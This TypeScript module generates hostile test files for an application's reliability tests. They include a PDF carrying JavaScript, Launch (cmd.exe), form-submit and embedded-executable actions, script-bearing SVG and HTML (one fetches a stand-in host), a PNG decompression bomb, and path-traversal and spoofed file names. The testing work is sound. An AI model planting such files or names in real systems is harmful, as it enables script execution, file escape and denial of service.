// Generators for every hostile file the reliability tests throw at Techfolio. Everything is made
// on the fly (PDFs with pdf-lib and qpdf's WebAssembly build, images with sharp): no binary fixtures are committed.
import { crc32, deflateSync } from 'node:zlib';
import { PDFArray, PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { throughQpdf } from './qpdf';

/** Text each generated script carries, so a test can search a pack for any trace of it. */
export const SCRIPT_MARKER = 'techfolioHostileScript';

const FIXED_DATE = new Date('2025-01-01T00:00:00Z');

/** A small, valid, one-page PDF whose page says `text`. */
export async function plainPdf(text = 'Certificate of attendance'): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([400, 240]);
  page.drawText(text, { x: 24, y: 120, size: 14, font });
  doc.setCreationDate(FIXED_DATE);
  doc.setModificationDate(FIXED_DATE);
  return doc.save({ useObjectStreams: false });
}

/** A PDF cut off part-way, as a download that stopped or a copy to a full disk leaves it. */
export async function truncatedPdf(): Promise<Uint8Array> {
  const whole = await plainPdf('Truncated certificate');
  return whole.subarray(0, Math.floor(whole.length * 0.55));
}

/** A PDF that needs the password "user" to open (AES-256). */
export async function userPasswordPdf(text = 'Locked certificate'): Promise<Uint8Array> {
  return throughQpdf(await plainPdf(text), (i, o) => ['--encrypt', 'user', 'owner', '256', '--', i, o]);
}

/** A PDF anyone can open (empty user password) whose owner password restricts editing. */
export async function ownerPasswordPdf(text = 'Owner protected certificate'): Promise<Uint8Array> {
  return throughQpdf(await plainPdf(text), (i, o) => ['--encrypt', '', 'owner', '256', '--modify=none', '--extract=n', '--', i, o]);
}

/**
 * A PDF carrying every kind of active content a reader might run: a JavaScript open action, a
 * document-level JavaScript name tree, document and page additional actions, a Launch action on a
 * link, a form button with scripts (AcroForm), submit and import actions, and a file attachment
 * holding a program. Its page still shows `text`.
 */
export async function activeContentPdf(text = 'Certificate with scripts'): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([400, 240]);
  page.drawText(text, { x: 24, y: 120, size: 14, font });
  const ctx = doc.context;
  const js = ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(`app.alert("${SCRIPT_MARKER}")`) }));
  const launch = ctx.register(
    ctx.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('calc.exe'), Win: { F: PDFString.of('cmd.exe'), P: PDFString.of(`/c ${SCRIPT_MARKER}`) } }),
  );
  const submit = ctx.register(ctx.obj({ Type: 'Action', S: 'SubmitForm', F: PDFString.of(`http://192.0.2.1/${SCRIPT_MARKER}`) }));
  const importData = ctx.register(ctx.obj({ Type: 'Action', S: 'ImportData', F: PDFString.of(`${SCRIPT_MARKER}.fdf`) }));

  doc.catalog.set(PDFName.of('OpenAction'), js);
  doc.catalog.set(PDFName.of('AA'), ctx.obj({ WC: js, WS: js, DS: js, WP: js, DP: js }));
  doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: ctx.register(ctx.obj({ Names: [PDFString.of('start'), js] })) }));

  const link = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 120, 40], Border: [0, 0, 0], A: launch }));
  const button = ctx.register(
    ctx.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Btn',
      Ff: 65536,
      T: PDFString.of('run'),
      Rect: [200, 0, 320, 40],
      P: page.ref,
      A: submit,
      AA: ctx.obj({ E: js, X: importData, D: js, U: launch, Fo: js, Bl: js, PO: js, PC: js }),
    }),
  );
  // A file attachment carrying a program, as malicious PDFs smuggle them.
  const program = ctx.register(ctx.flateStream(Buffer.concat([Buffer.from(elfExecutable()), Buffer.from(SCRIPT_MARKER)]), { Type: 'EmbeddedFile' }));
  const attachment = ctx.register(
    ctx.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [340, 0, 360, 20], FS: { Type: 'Filespec', F: PDFString.of('run-me.exe'), EF: { F: program } } }),
  );
  page.node.set(PDFName.of('Annots'), ctx.obj([link, button, attachment]));
  page.node.set(PDFName.of('AA'), ctx.obj({ O: js, C: launch }));
  doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: [button], NeedAppearances: true }));
  doc.setCreationDate(FIXED_DATE);
  doc.setModificationDate(FIXED_DATE);
  const bytes = await doc.save({ useObjectStreams: false });
  // A self-check: the generator really produced what the tests rely on.
  const reloaded = await PDFDocument.load(bytes);
  if (!(reloaded.catalog.get(PDFName.of('OpenAction')) && reloaded.getPage(0).node.get(PDFName.of('Annots')) instanceof PDFArray)) {
    throw new Error('activeContentPdf did not keep its actions');
  }
  return bytes;
}

const encode = (text: string) => new TextEncoder().encode(text);

export const svgWithScript = () =>
  encode(
    `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert('${SCRIPT_MARKER}')">` +
      `<script>alert('${SCRIPT_MARKER}')</script><rect width="40" height="40" fill="teal"/></svg>\n`,
  );

export const htmlWithScript = () =>
  encode(`<!doctype html><html><head><title>Report</title></head><body><p>Report</p><script>fetch('http://192.0.2.1/${SCRIPT_MARKER}')</script></body></html>\n`);

/** The start of a Linux program: the ELF header of an x86-64 executable. */
export function elfExecutable(): Uint8Array {
  const bytes = Buffer.alloc(256);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(bytes);
  bytes.writeUInt16LE(2, 16); // ET_EXEC
  bytes.writeUInt16LE(0x3e, 18); // x86-64
  bytes.writeUInt32LE(1, 20);
  return new Uint8Array(bytes);
}

/** The start of a Windows program: "MZ", the offset of the PE header, then "PE\0\0" and an i386 machine. */
export function peExecutable(): Uint8Array {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x14c, 0x84);
  return new Uint8Array(bytes);
}

/**
 * The first boxes of a HEIC phone photo: an `ftyp` box with brand heic, then an empty `meta`
 * box. Enough for type detection; no decoder can draw it (most builds cannot decode HEVC anyway).
 */
export function heicPhoto(): Uint8Array {
  const ftyp = Buffer.alloc(24);
  ftyp.writeUInt32BE(24, 0);
  ftyp.write('ftypheic', 4, 'latin1');
  ftyp.writeUInt32BE(0, 12);
  ftyp.write('mif1heic', 16, 'latin1');
  const meta = Buffer.alloc(12);
  meta.writeUInt32BE(12, 0);
  meta.write('meta', 4, 'latin1');
  return new Uint8Array(Buffer.concat([ftyp, meta, Buffer.alloc(64)]));
}

const create = (width: number, height: number, colour = { r: 200, g: 80, b: 40 }) =>
  sharp({ create: { width, height, channels: 3, background: colour } });

/** A JPEG in CMYK, as print shops and some scanners save them. */
export async function cmykJpeg(): Promise<Uint8Array> {
  return new Uint8Array(await create(64, 48).toColourspace('cmyk').jpeg().toBuffer());
}

/** A PNG with 16 bits per channel. */
export async function png16Bit(): Promise<Uint8Array> {
  return new Uint8Array(await create(64, 48).toColourspace('rgb16').png().toBuffer());
}

/** A palette (indexed colour) PNG. */
export async function palettePng(): Promise<Uint8Array> {
  return new Uint8Array(await create(64, 48).png({ palette: true, colours: 4 }).toBuffer());
}

/**
 * A phone photo stored sideways with EXIF orientation 6 ("rotate 90° clockwise to view"). Stored
 * pixels are 120 wide by 40 high, left half red and right half blue; shown upright it is 40 wide by
 * 120 high with red at the top.
 */
export async function exifRotatedJpeg(): Promise<Uint8Array> {
  const half = (r: number, b: number) => ({ create: { width: 60, height: 40, channels: 3 as const, background: { r, g: 0, b } } });
  const stored = await sharp({ create: { width: 120, height: 40, channels: 3, background: { r: 0, g: 0, b: 0 } } })
    .composite([
      { input: await sharp(half(255, 0)).png().toBuffer(), left: 0, top: 0 },
      { input: await sharp(half(0, 255)).png().toBuffer(), left: 60, top: 0 },
    ])
    .jpeg({ quality: 95 })
    .withMetadata({ orientation: 6 })
    .toBuffer();
  return new Uint8Array(stored);
}

/**
 * A decompression bomb: a PNG of a few hundred bytes whose header declares 100,000 × 100,000
 * pixels (30 GB once decoded). Only the first rows exist; no decoder should try to allocate it.
 */
export function pixelBombPng(): Uint8Array {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(100_000, 0);
  header.writeUInt32BE(100_000, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
  const rows = deflateSync(Buffer.alloc(4 * (1 + 3 * 100_000)));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return new Uint8Array(Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]));
}

/** File names a desktop can hold, or an attacker can send: each must be harmless as a label and never used as a path. */
export const HOSTILE_FILE_NAMES = {
  'a parent-folder path (../)': '../../../../tmp/escaped-certificate.pdf',
  'a Windows parent-folder path (..\\)': '..\\..\\..\\Windows\\System32\\escaped.pdf',
  'an absolute path': '/etc/techfolio-escaped.pdf',
  'control characters': 'cert\u0000ificate\u0007\u001b[31m\r\n.pdf',
  '300 characters': `${'a'.repeat(296)}.pdf`,
  'right-to-left override (U+202E)': 'invoice\u202Efdp.exe',
  'a reserved Windows name': 'CON.pdf',
  'only dots': '..',
} as const;
